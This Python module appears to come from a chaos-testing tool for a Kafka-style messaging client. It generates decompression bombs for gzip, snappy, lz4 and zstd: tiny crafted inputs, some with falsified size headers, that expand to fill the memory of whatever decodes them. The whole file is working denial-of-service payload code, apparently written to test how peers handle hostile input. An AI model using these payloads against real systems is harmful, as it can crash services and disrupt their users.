"""Compression bombs: few bytes that would fill the memory of whoever opens them, one maker per codec.

Each is made without ever holding what it would become: deflate, lz4 and zstd let one compressed block be
repeated, and snappy names its size up front, which may be a lie.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable

from chaos.peer import uvarint

GZIP, SNAPPY, LZ4, ZSTD = 1, 2, 3, 4
MEGABYTE = 1 << 20


def gzip_bomb(megabytes: int) -> bytes:
    """A kilobyte per megabyte: deflate cannot do better."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflate.compress(bytes(MEGABYTE)) + deflate.flush(zlib.Z_FULL_FLUSH)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + block * megabytes + b"\x03\0" + bytes(8)


def snappy_bomb(megabytes: int) -> bytes:
    """A block that says how large it will be."""
    return uvarint(megabytes * MEGABYTE) + b"\x00a"


def snappy_frames_bomb(megabytes: int) -> bytes:
    """The same in many honest blocks of 64 bytes' copies, in the framing of the Java client."""
    copies = b"\xfe\x01\x00" * (MEGABYTE // 64 - 1) + b"\xfa\x01\x00"  # 64 bytes each, the last one 63
    block = uvarint(MEGABYTE) + b"\x00a" + copies
    return b"\x82SNAPPY\0" + struct.pack(">ii", 1, 1) + (struct.pack(">i", len(block)) + block) * megabytes


def lz4_bomb(megabytes: int) -> bytes:
    """Four kilobytes per megabyte: a match grows by 255 with each byte."""
    import cramjam

    frame = bytes(cramjam.lz4.compress(bytes(4 * MEGABYTE)))
    return frame * max(1, megabytes // 4)


def zstd_bomb(megabytes: int) -> bytes:
    """Thirty-two bytes per megabyte: blocks that say 'this byte, 128 KiB times'."""
    frame_header = b"\x28\xb5\x2f\xfd" + b"\x00" + b"\x38"  # no content size; a window of 128 KiB
    block = ((128 << 10) << 3 | 1 << 1).to_bytes(3, "little") + b"\0"
    last = ((128 << 10) << 3 | 1 << 1 | 1).to_bytes(3, "little") + b"\0"
    return frame_header + block * (megabytes * 8 - 1) + last


BOMBS: dict[str, tuple[int, Callable[[int], bytes], int]] = {
    "gzip": (GZIP, gzip_bomb, 900),  # about what fits into a batch of a megabyte
    "snappy": (SNAPPY, snappy_bomb, 4000),
    "snappy frames": (SNAPPY, snappy_frames_bomb, 20),
    "lz4": (LZ4, lz4_bomb, 100),
    "zstd": (ZSTD, zstd_bomb, 10_000),
}
